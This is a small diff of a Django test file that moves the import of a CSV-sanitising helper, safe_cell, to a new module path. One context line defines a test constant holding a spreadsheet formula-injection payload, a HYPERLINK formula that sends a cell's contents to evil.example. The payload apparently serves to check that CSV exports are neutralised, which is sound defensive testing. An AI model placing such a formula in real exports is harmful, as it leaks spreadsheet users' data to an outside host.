@@ -9,8 +9,8 @@ import pytest
 from django.urls import reverse
 
 from tests.test_sessions import outcome_plan
-from triggerfinder.csvsafe import safe_cell
 from triggerfinder.models import BodyRegion
+from triggerfinder.presentation.csvsafe import safe_cell
 
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Nacken")'
 
